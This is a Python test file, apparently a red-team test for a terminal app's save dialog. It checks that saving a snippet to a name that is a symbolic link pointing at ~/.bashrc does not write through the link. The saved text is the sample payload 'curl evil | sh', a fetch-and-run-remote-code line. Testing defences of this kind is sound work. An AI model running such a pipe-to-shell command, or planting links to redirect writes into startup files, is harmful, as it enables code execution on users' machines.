"""Red team on the save dialog (issue 15): a name that is a symbolic link (planted in a shared
folder such as /tmp, or left dangling) is not written through — the snippet or report would land
wherever the link points (``~/.bashrc``, an autostart folder) with no question asked, or under
the link's name in the "exists" question."""

from __future__ import annotations

import pytest

from gradio_tui.tui.screens.dialogs import SaveDialog
from tests.support.pilot import press, wait_for

pytestmark = pytest.mark.trust


@pytest.fixture(autouse=True)
def _in_a_folder(monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize("dangling", [True, False])
async def test_a_symbolic_link_is_never_written_through(tmp_path, dangling):
    from textual.app import App

    from gradio_tui.tui.screens.dialogs import save_text

    elsewhere = tmp_path / "home" / ".bashrc"
    elsewhere.parent.mkdir()
    if not dangling:
        elsewhere.write_text("# mine\n", encoding="utf-8")
    (tmp_path / "call.sh").symlink_to(elsewhere)
    app: App = App()
    async with app.run_test() as pilot:
        save_text(app, "Save the snippet to", "call.sh", "curl evil | sh\n")
        await wait_for(pilot, lambda: isinstance(app.screen, SaveDialog), 5, "the save dialog")
        await press(pilot, "enter")
        await pilot.pause()
        await press(pilot, "enter")                     # a second Enter would confirm an overwrite
        await pilot.pause()
        assert isinstance(app.screen, SaveDialog)
        warning = str(app.screen.query_one("#save-warning").render())
        assert "symbolic link" in warning
        assert not elsewhere.exists() if dangling else elsewhere.read_text(encoding="utf-8") == "# mine\n"
